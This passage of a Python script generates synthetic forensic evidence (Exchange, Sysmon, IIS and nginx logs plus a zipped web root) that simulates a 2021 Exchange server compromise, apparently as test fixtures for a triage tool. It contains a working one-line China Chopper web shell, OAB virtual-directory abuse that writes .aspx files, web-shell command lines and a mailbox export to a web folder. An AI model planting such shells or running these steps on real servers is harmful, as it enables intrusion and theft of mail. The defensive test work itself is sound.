                (dt.datetime(2021, 3, 3, 1, 18, 22, 77000), "ResetOABVirtualDirectory",
                 "Set-OabVirtualDirectory.Identity='EXCH01\\OAB (Default Web Site)'.FilePathName='\\\\127.0.0.1"
                 "\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth"
                 "\\RedirSuiteServerProxy.aspx'"),
                (dt.datetime(2021, 3, 3, 1, 44, 51, 77000), "ResetOABVirtualDirectory",
                 "Set-OabVirtualDirectory.Identity='EXCH01\\OAB (Default Web Site)'.FilePathName='\\\\127.0.0.1"
                 "\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx'"),
            ]:
                rows.append((t, [("TIME", 512), ("SID", request_id(rng)), ("REQID", request_id(rng)),
                                 ("URL", "/ecp/DDI/DDIService.svc/%s?schema=%s&msExchEcpCanary=%s"
                                  % ("GetObject" if cmd.startswith("Get") else "SetObject", schema, CANARY)),
                                 ("REFERRER", ""), ("EX", ""), ("RS", 0), ("BLD", "15.1.2106.2"),
                                 ("USR", "CONTOSO\\administrator"), ("IP", CISA_IP), ("UA", "python-requests/2.25.1"),
                                 ("CMD", cmd)]))
        rows.sort(key=lambda r: r[0])
        text = exchange_header("ECP Server Log", dt.datetime.combine(day, dt.time(0, 0, 5)),
                               ["TimeStamp", "ServerName", "EventId", "EventData"])
        for t, pairs in rows:
            text += ",".join([ms(t), HOST, "ECP.Request", csv_cell(ecp_data(pairs))]) + "\n"
        ev.add("%s/Logging/ECP/Server/ECPServer_%s00-1.LOG" % (EXCHANGE, day.strftime("%Y%m%d")), text, "exchange-ecp",
               [r[0] for r in rows], series="%s/Logging/ECP/Server" % EXCHANGE)


# ---------------------------------------------------------------------------------------------- OAB generator

def gen_oab(ev, rng):
    oab = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\4d1e0b6c-5a3f-4a8e-9c2d-7b6e5f4a3c21"
    for day in [dt.date(2021, 3, 2), dt.date(2021, 3, 3), dt.date(2021, 3, 4)]:
        lines = []
        for hour in (1, 9, 17):
            t = dt.datetime.combine(day, dt.time(hour, 0, 3, 120000))
            lines.append((t, "[OABGeneratorAssistant] Information: Beginning OAB generation for \\Default Offline "
                             "Address Book"))
            lines.append((t + dt.timedelta(seconds=14, microseconds=330000),
                          "[OABGeneratorAssistant] Information: Download completed and temporary file '%s\\oab.tmp' "
                          "was moved to '%s\\oab.xml'" % (oab, oab)))
            lines.append((t + dt.timedelta(seconds=15), "[OABGeneratorAssistant] Information: OAB generation for "
                                                        "\\Default Offline Address Book completed"))
        if day == dt.date(2021, 3, 3):
            t = dt.datetime(2021, 3, 3, 1, 45, 2, 613000)
            lines.append((t, "[OABGeneratorAssistant] Warning: Download failed and temporary file "
                             "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed"))
        lines.sort()
        text = "".join("%s %s\n" % (ms(t), msg) for t, msg in lines)
        ev.add("%s/Logging/OABGeneratorLog/OABGeneratorLog_%s01-1.LOG" % (EXCHANGE, day.strftime("%Y%m%d")), text,
               "exchange-oab", [t for t, _ in lines], series="%s/Logging/OABGeneratorLog" % EXCHANGE)


# ---------------------------------------------------------------------------------------------- message tracking

MSGTRK_FIELDS = ["date-time", "client-ip", "client-hostname", "server-ip", "server-hostname", "source-context",
                 "connector-id", "source", "event-id", "internal-message-id", "message-id", "network-message-id",
                 "recipient-address", "recipient-status", "total-bytes", "recipient-count",
                 "related-recipient-address", "reference", "message-subject", "sender-address", "return-path",
                 "message-info", "directionality", "tenant-id", "original-client-ip", "original-server-ip",
                 "custom-data", "transport-traffic-type", "log-id", "schema-version"]
SUBJECTS = ["Quarterly report, draft 2", "Re: \"Budget\" meeting", "Lunch?", "Invoice 2021-0117",
            "Fwd: travel plans", "Team offsite, agenda"]


def gen_msgtrk(ev, rng):
    for day in RECENT:
        rows = []
        for _ in range(rng.randint(2, 4)):
            t = dt.datetime.combine(day, dt.time(rng.randint(7, 18), rng.randint(0, 59), rng.randint(0, 59),
                                                 rng.randint(0, 999) * 1000))
            s, r = rng.sample(USERS, 2)
            mid = "<%s@%s>" % (request_id(rng), FQDN)
            subject = rng.choice(SUBJECTS)
            for k, (event, source) in enumerate([("RECEIVE", "SMTP"), ("DELIVER", "STOREDRIVER")]):
                rows.append((t + dt.timedelta(milliseconds=180 * k), {
                    "client-ip": user_ip(s) if k == 0 else "", "server-ip": SERVER_IP, "server-hostname": HOST,
                    "source-context": "08D8DDB2A5D3C1F4;250 2.0.0 OK" if k == 0 else "",
                    "connector-id": "EXCH01\\Client Frontend EXCH01" if k == 0 else "", "source": source,
                    "event-id": event, "internal-message-id": str(rng.randint(10000, 99999)), "message-id": mid,
                    "recipient-address": "%s@%s" % (r, DOMAIN), "recipient-status": "250 2.1.5 Recipient OK"
                    if k == 0 else "", "total-bytes": rng.randint(4000, 90000), "recipient-count": 1,
                    "message-subject": subject, "sender-address": "%s@%s" % (s, DOMAIN),
                    "return-path": "%s@%s" % (s, DOMAIN), "directionality": "Originating", "schema-version":
                    "15.01.2106.002"}))
        rows.sort(key=lambda r: r[0])
        text = exchange_header("Message Tracking Log", dt.datetime.combine(day, dt.time(0, 0, 9)), MSGTRK_FIELDS)
        for t, v in rows:
            v["date-time"] = ms(t)
            text += ",".join(csv_cell(v.get(f, "")) for f in MSGTRK_FIELDS) + "\n"
        ev.add("%s/TransportRoles/Logs/MessageTracking/MSGTRK%s00-1.LOG" % (EXCHANGE, day.strftime("%Y%m%d")), text,
               "exchange-msgtrk", [r[0] for r in rows], series="%s/TransportRoles/Logs/MessageTracking" % EXCHANGE)


# ---------------------------------------------------------------------------------------------- Windows events

W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
W3WP_OWA = ('c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files'
            '\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a '
            '\\\\.\\pipe\\iisipm8d3c1c4b-2a0e-4d5f-9e8a-1c2b3d4e5f60 -h "C:\\inetpub\\temp\\apppools'
            '\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0')
W3WP_DEFAULT = ('c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a '
                '\\\\.\\pipe\\iisipm2a7b9c1d-0e3f-4a5b-8c6d-7e8f9a0b1c2d -h "C:\\inetpub\\temp\\apppools'
                '\\DefaultAppPool\\DefaultAppPool.config" -w "" -m 0 -t 20 -ta 0')


def processes():
    """(time, image, command line, parent image, parent command line, user, pid, parent pid)"""
    return [
        (dt.datetime(2021, 2, 28, 22, 5, 11, 401000), "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
         '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows'
         '\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\b4c8d2a1\\5e7f3a90\\q1wz2kxa.cmdline"',
         W3WP, W3WP_OWA, "NT AUTHORITY\\SYSTEM", 5120, 3912),
        (dt.datetime(2021, 3, 1, 9, 30, 2, 12000), "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         'powershell.exe -NoExit -Command ". \'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\RemoteExchange.ps1\'; '
         'Connect-ExchangeServer -auto -ClientApplication:ManagementShell"',
         "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "CONTOSO\\administrator", 6312, 4188),
        (dt.datetime(2021, 3, 3, 1, 19, 41, 207000), "C:\\Windows\\System32\\cmd.exe", '"cmd" /c whoami',
         W3WP, W3WP_OWA, "NT AUTHORITY\\SYSTEM", 7448, 3912),
        (dt.datetime(2021, 3, 3, 1, 19, 41, 355000), "C:\\Windows\\System32\\whoami.exe", "whoami",
         "C:\\Windows\\System32\\cmd.exe", '"cmd" /c whoami', "NT AUTHORITY\\SYSTEM", 7460, 7448),
        (dt.datetime(2021, 3, 4, 6, 14, 9, 880000), "C:\\Windows\\System32\\cmd.exe",
         'cmd /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client\\system_web"&whoami&echo [S]&cd&echo [E]',
         W3WP, W3WP_DEFAULT, "IIS APPPOOL\\DefaultAppPool", 8804, 2260),
        (dt.datetime(2021, 3, 5, 10, 12, 40, 50000), "C:\\Windows\\System32\\inetsrv\\appcmd.exe",
         "C:\\Windows\\system32\\inetsrv\\appcmd.exe list apppool", "C:\\Windows\\System32\\cmd.exe",
         '"C:\\Windows\\system32\\cmd.exe"', "CONTOSO\\administrator", 9012, 8990),
    ]


def logons():
    """(time, logon type, user, source ip)"""
    return [
        (dt.datetime(2021, 3, 1, 9, 28, 55, 3000), 10, "administrator", ADMIN_IP),
        (dt.datetime(2021, 3, 2, 8, 1, 13, 700000), 3, "j.smith", user_ip("j.smith")),
        (dt.datetime(2021, 3, 3, 7, 59, 2, 450000), 3, "a.jones", user_ip("a.jones")),
        (dt.datetime(2021, 3, 5, 10, 11, 7, 90000), 10, "administrator", ADMIN_IP),
    ]


def cmdlets():
    """(time, cmdlet, parameters, caller, benign)"""
    return [
        (dt.datetime(2021, 3, 1, 9, 31, 12, 0), "Get-ExchangeServer", "", "CONTOSO\\administrator"),
        (dt.datetime(2021, 3, 1, 9, 33, 40, 0), "Get-Mailbox", '-ResultSize "Unlimited"', "CONTOSO\\administrator"),
        (dt.datetime(2021, 3, 2, 14, 2, 5, 0), "Set-Mailbox", '-Identity "m.garcia" -ProhibitSendQuota "9.5 GB"',
         "CONTOSO\\administrator"),
        (dt.datetime(2021, 3, 3, 1, 18, 15, 901000), "Set-OabVirtualDirectory",
         '-ExternalUrl "%s" -Identity "EXCH01\\OAB (Default Web Site)"' % SCRIPT, "NT AUTHORITY\\SYSTEM"),
        (dt.datetime(2021, 3, 3, 3, 44, 3, 0), "New-MailboxExportRequest",
         '-Mailbox "j.smith@contoso.local" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\j.smith.pst"',
         "NT AUTHORITY\\SYSTEM"),
        (dt.datetime(2021, 3, 3, 3, 51, 27, 0), "Remove-MailboxExportRequest",
         '-Identity "j.smith\\MailboxExport" -Confirm "False"', "NT AUTHORITY\\SYSTEM"),
        (dt.datetime(2021, 3, 5, 10, 14, 2, 0), "Get-OabVirtualDirectory", '-Server "EXCH01"',
         "CONTOSO\\administrator"),
    ]


def um_errors():
    return [
        (dt.datetime(2021, 3, 3, 1, 52, 17, 0), 4, "Error", "MSExchange Unified Messaging",
         "An unexpected error occurred while processing a voice mail. System.InvalidCastException: Unable to cast "
         "object of type 'System.String' to type 'Microsoft.Exchange.UM.UMCore.UMMailboxConfiguration'. at "
         "Microsoft.Exchange.UM.UMCore.PipelineDispatcher..."),
        (dt.datetime(2021, 3, 2, 6, 0, 0, 0), 1000, "Information", "MSExchangeFastSearch",
         "The indexing of mailbox database Mailbox Database 0123456789 encountered a transient error and will retry."),
        (dt.datetime(2021, 3, 4, 6, 0, 1, 0), 2080, "Information", "MSExchange ADAccess",
         "Process MSExchangeHMHost.exe (PID=2440). Exchange Active Directory Provider has discovered the following "
         "servers: DC01.contoso.local."),
    ]


def guid(rng):
    return "{%s}" % request_id(rng)


def gen_events(ev, rng):
    flat = []
    record = 40211
    for t, image, cmd, pimage, pcmd, user, pid, ppid in processes():
        record += 1
        flat.append((t, {"TimeCreated": ms(t), "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                         "Provider": "Microsoft-Windows-Sysmon", "Computer": FQDN, "EventRecordID": record,
                         "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000),
                         "ProcessGuid": guid(rng), "ProcessId": pid, "Image": image, "CommandLine": cmd,
                         "CurrentDirectory": "C:\\Windows\\system32\\", "User": user, "IntegrityLevel": "System",
                         "Hashes": "SHA256=%064X" % rng.getrandbits(256), "ParentProcessGuid": guid(rng),
                         "ParentProcessId": ppid, "ParentImage": pimage, "ParentCommandLine": pcmd}))
        flat.append((t + dt.timedelta(milliseconds=2), {
            "TimeCreated": ms(t + dt.timedelta(milliseconds=2)), "EventID": 4688, "Channel": "Security",
            "Provider": "Microsoft-Windows-Security-Auditing", "Computer": FQDN, "EventRecordID": record + 880000,
            "SubjectUserName": "EXCH01$" if "SYSTEM" in user else user.split("\\")[1],
            "SubjectDomainName": "CONTOSO", "NewProcessId": hex(pid), "NewProcessName": image, "CommandLine": cmd,
            "ProcessId": hex(ppid), "ParentProcessName": pimage, "TokenElevationType": "%%1936",
            "MandatoryLabel": "S-1-16-16384"}))
    for t, ltype, user, ip in logons():
        record += 1
        flat.append((t, {"TimeCreated": ms(t), "EventID": 4624, "Channel": "Security",
                         "Provider": "Microsoft-Windows-Security-Auditing", "Computer": FQDN,
                         "EventRecordID": record + 880000, "TargetUserName": user, "TargetDomainName": "CONTOSO",
                         "LogonType": ltype, "IpAddress": ip, "IpPort": str(49152 + record % 1000),
                         "WorkstationName": "WS-%s" % ip.split(".")[-1], "LogonProcessName": "User32" if ltype == 10
                         else "NtLmSsp", "AuthenticationPackageName": "Negotiate" if ltype == 10 else "NTLM"}))
    flat.sort(key=lambda e: e[0])
    ev.add("EXCH01/events/security-sysmon.ndjson", "".join(json.dumps(e, separators=(",", ":")) + "\n"
                                                           for _, e in flat), "json", [t for t, _ in flat],
           newline="\n")

    beats = []
    for i, (t, cmdlet, params, caller) in enumerate(cmdlets()):
        beats.append((t, {
            "@timestamp": ms(t), "host": {"name": FQDN, "hostname": HOST},
            "agent": {"type": "winlogbeat", "version": "7.10.2"},
            "event": {"code": "1", "kind": "event", "provider": "MSExchange CmdletLogs", "created": ms(t)},
            "log": {"level": "information"},
            "message": "Cmdlet succeeded. Cmdlet %s, parameters %s." % (cmdlet, params),
            "winlog": {"channel": "MSExchange Management", "event_id": 1, "provider_name": "MSExchange CmdletLogs",
                       "computer_name": FQDN, "record_id": 9301 + i, "task": "(1)", "keywords": ["Classic"],
                       "event_data": {"param1": cmdlet, "param2": params, "param3": caller,
                                      "param4": "S-1-5-18" if "SYSTEM" in caller else
                                      "S-1-5-21-3623811015-3361044348-30300820-500",
                                      "param5": "S-1-5-21-3623811015-3361044348-30300820-500",
                                      "param6": "ServerRemoteHost-Local", "param7": "7764 w3wp",
                                      "param8": "", "param9": "", "param10": "15.1.2106.2"}}}))
    for i, (t, image, cmd, pimage, pcmd, user, pid, ppid) in enumerate(processes()):
        if pimage != W3WP:
            continue
        beats.append((t, {
            "@timestamp": ms(t), "host": {"name": FQDN, "hostname": HOST},
            "agent": {"type": "winlogbeat", "version": "7.10.2"},
            "event": {"code": "1", "kind": "event", "provider": "Microsoft-Windows-Sysmon", "created": ms(t)},
            "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1,
                       "provider_name": "Microsoft-Windows-Sysmon", "computer_name": FQDN, "record_id": 40212 + i,
                       "event_data": {"Image": image, "CommandLine": cmd, "ParentImage": pimage,
                                      "ParentCommandLine": pcmd, "User": user, "ProcessId": str(pid),
                                      "ParentProcessId": str(ppid)}}}))
    beats.sort(key=lambda e: e[0])
    ev.add("EXCH01/events/winlogbeat-EXCH01.ndjson", "".join(json.dumps(e, separators=(",", ":")) + "\n"
                                                             for _, e in beats), "json", [t for t, _ in beats],
           newline="\n")

    app = []
    for i, (t, eid, level, provider, msg) in enumerate(sorted(um_errors())):
        app.append({"TimeCreated": ms(t), "EventID": eid, "Level": level, "Channel": "Application",
                    "Provider": provider, "Computer": FQDN, "EventRecordID": 118_003 + i, "Message": msg})
    ev.add("EXCH01/events/application.json", json.dumps(app, indent=2) + "\n", "json",
           [dt.datetime.strptime(e["TimeCreated"], "%Y-%m-%dT%H:%M:%S.%fZ") for e in app], newline="\r\n")


# ---------------------------------------------------------------------------------------------- inventory CSV

def gen_inventory(ev):
    rows = [["Name", "AdminDisplayVersion", "Edition", "ServerRole", "Site", "Fqdn", "IsMemberOfCluster"],
            [HOST, "Version 15.1 (Build 2106.2)", "Standard", "Mailbox",
             "contoso.local/Configuration/Sites/Default-First-Site-Name", FQDN, "No"]]
    text = "".join(",".join('"%s"' % c for c in r) + "\n" for r in rows)
    ev.add("EXCH01/inventory/Get-ExchangeServer.csv", text, "csv", [], newline="\r\n", events=len(rows) - 1)


# ---------------------------------------------------------------------------------------------- reverse proxy

def gen_proxy(ev, proxied):
    lines = []
    times = []
    for t, ip, m, path, status, size, ua, fwd in proxied:
        lines.append('%s - - [%s] "%s %s HTTP/1.1" %d %d "-" "%s"\n'
                     % (ip, t.strftime("%d/%b/%Y:%H:%M:%S +0000"), m, path, status, size, ua))
        times.append(t)
    ev.add("rp01/nginx/access.log", "".join(lines), "access-combined", times, newline="\n")

    sl = []
    pid = 812
    for t, ip, m, path, status, size, ua, fwd in proxied:
        if status == 403:
            sl.append((t, "nginx", pid, '%s [error] %d#%d: *%d access forbidden by rule, client: %s, server: '
                       'mail.contoso.com, request: "%s %s HTTP/1.1", host: "mail.contoso.com"'
                       % (t.strftime("%Y/%m/%d %H:%M:%S"), pid, pid, 4400 + len(sl), ip, m, path), 187))
    sl.append((dt.datetime(2021, 3, 6, 7, 58, 1, 0), "systemd", 1, "Started A high performance web server and a "
               "reverse proxy server.", 30))
    sl.append((dt.datetime(2021, 3, 6, 7, 41, 19, 0), "sshd", 702, "Accepted publickey for admin from %s port 50122 "
               "ssh2: ED25519 SHA256:Jm4p0w1r2e3a4l5K6e7y8F9i0n1g2e3r4p5r6i7n8t9" % ADMIN_IP, 38))
    sl.append((dt.datetime(2021, 3, 9, 6, 25, 1, 0), "CRON", 2210, "(root) CMD (test -x /usr/sbin/anacron || "
               "( cd / && run-parts --report /etc/cron.daily ))", 78))
    sl.sort()
    text = "".join("<%d>1 %s rp01.contoso.local %s %d - - %s\n" % (pri, ms(t), app, p, msg)
                   for t, app, p, msg, pri in sl)
    ev.add("rp01/syslog/rp01.contoso.local.log", text, "syslog", [s[0] for s in sl], newline="\n")


# ---------------------------------------------------------------------------------------------- web roots

WEB_FILES = {
    "EXCH01/inetpub/wwwroot/iisstart.htm":
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
        '<html xmlns="http://www.w3.org/1999/xhtml">\n<head>\n<meta http-equiv="Content-Type" content="text/html; '
        'charset=iso-8859-1" />\n<title>IIS Windows Server</title>\n</head>\n<body>\n<div id="container">\n'
        '<a href="http://go.microsoft.com/fwlink/?linkid=66138&amp;clcid=0x409"><img src="iisstart.png" '
        'alt="IIS" width="960" height="600" /></a>\n</div>\n</body>\n</html>\n',
    # China Chopper, 2019: one line, the password is the form field "p"
    "EXCH01/inetpub/wwwroot/aspnet_client/system_web/log.aspx":
        '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\n',
    # written through the OAB virtual directory reset of 2021-03-03 (CVE-2021-26858/27065)
    "EXCH01/inetpub/wwwroot/aspnet_client/discover.aspx":
        'Name                            : OAB (Default Web Site)\nPollInterval                    : 480\n'
        'OfflineAddressBooks             : \nRequireSSL                      : False\nBasicAuthentication             : '
        'False\nWindowsAuthentication           : True\nOAuthAuthentication             : False\nMetabasePath           '
        '         : IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB\nPath                            : C:\\Program Files'
        '\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB\nExtendedProtectionTokenChecking : None\n'
        'InternalUrl                     : https://exch01.contoso.local/OAB\nExternalUrl                     : '
        + SCRIPT + '\nAdminDisplayName                : \nExchangeVersion                 : 0.10 (14.0.100.0)\n'
        'Server                          : EXCH01\n',
    "EXCH01/Exchange/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx":
        'Name                            : OAB (Default Web Site)\nPollInterval                    : 480\n'
        'OfflineAddressBooks             : \nRequireSSL                      : False\nMetabasePath                    : '
        'IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB\nInternalUrl                     : https://exch01.contoso.local/OAB'
        '\nExternalUrl                     : ' + SCRIPT + '\nServer                          : EXCH01\n',
    # Exchange's own files in owa/auth (short stand-ins, the look-alikes a web shell hides among)
    "EXCH01/Exchange/FrontEnd/HttpProxy/owa/auth/logon.aspx":
        '<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n'
        '<%@ Import Namespace="Microsoft.Exchange.HttpProxy" %>\n<!DOCTYPE html>\n<html>\n<head>\n'
        '<title>Outlook</title>\n<link rel="stylesheet" href="<%=InlineJavascript("themes/resources/logon.css")%>">\n'
        '</head>\n<body class="signInBg">\n<form action="/owa/auth.owa" method="POST" name="logonForm">\n'
        '<input id="username" name="username" type="text">\n<input id="password" name="password" type="password">\n'
        '</form>\n</body>\n</html>\n',
    "EXCH01/Exchange/FrontEnd/HttpProxy/owa/auth/errorFE.aspx":
        '<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.ErrorFE" %>\n'
        '<!DOCTYPE html>\n<html>\n<head><title>Outlook</title></head>\n<body>\n'
        '<div id="errMsg"><%=ErrorMessage%></div>\n</body>\n</html>\n',
    "EXCH01/Exchange/FrontEnd/HttpProxy/owa/auth/expiredpassword.aspx":
        '<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.ExpiredPassword" %>\n'
        '<!DOCTYPE html>\n<html>\n<head><title>Outlook</title></head>\n<body>\n'
        '<form action="/owa/auth/expiredpassword.aspx" method="POST"></form>\n</body>\n</html>\n',
    "EXCH01/Exchange/FrontEnd/HttpProxy/owa/auth/Current/themes/resources/logon.css":
        '/* Outlook Web App sign-in page */\n.signInBg { background-color: #ffffff; }\n'
        '#username, #password { width: 100%; height: 32px; font-size: 14px; }\n'
        '.signInEnter { cursor: pointer; color: #0072c6; }\n',
}


# A triage collector zips the web folders and keeps each file's modification time (as UTC extended timestamps):
# that time is the evidence a file check dates its finding by, and a git checkout would lose it.
WEB_COPY = "EXCH01/webroot-copy.zip"
EXCHANGE_CU_INSTALLED = dt.datetime(2020, 12, 15, 3, 12, 40)
WEB_TIMES = {
    "EXCH01/inetpub/wwwroot/iisstart.htm": dt.datetime(2018, 11, 20, 14, 2, 10),
    "EXCH01/inetpub/wwwroot/aspnet_client/system_web/log.aspx": dt.datetime(2019, 4, 11, 9, 28, 52),
    "EXCH01/inetpub/wwwroot/aspnet_client/discover.aspx": dt.datetime(2021, 3, 3, 1, 44, 45),
    "EXCH01/Exchange/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx": dt.datetime(2021, 3, 3, 1, 19, 12),
}


def gen_web(ev):
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as z:
        for rel, text in WEB_FILES.items():
            member = rel[len("EXCH01/"):]
            data = ev.add(member, text, "unknown", [], newline="\r\n", zip_member_of=WEB_COPY)
            t = WEB_TIMES.get(rel, EXCHANGE_CU_INSTALLED)
            info = zipfile.ZipInfo(member, date_time=t.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            info.create_system = 0
            info.extra = struct.pack("<HHBi", 0x5455, 5, 1, calendar.timegm(t.timetuple()))
            z.writestr(info, data)
    ev.add_raw(WEB_COPY, zipped.getvalue(), "zip")


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    root = os.path.dirname(here)
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", default=os.path.join(root, "examples"))
    ap.add_argument("--expected", default=os.path.join(root, "dwell-cli/src/test/resources/examples-expected.json"))
    ap.add_argument("--display-root", default="examples", help="the path as given to dwell inventory")
    a = ap.parse_args()
    rng = random.Random(SEED)
    ev = Evidence(a.out, a.display_root)
    proxied = proxy_requests(rng)
    gen_iis(ev, rng, proxied)
    gen_httpproxy(ev, rng)
    gen_ecp(ev, rng)
    gen_oab(ev, rng)
    gen_msgtrk(ev, rng)
    gen_events(ev, rng)
    gen_inventory(ev)
    gen_proxy(ev, proxied)
    gen_web(ev)
    ev.write()
    os.makedirs(os.path.dirname(a.expected), exist_ok=True)
    with open(a.expected, "w", newline="\n") as f:
        json.dump(ev.expected(), f, indent=2)
        f.write("\n")


if __name__ == "__main__":
    main()
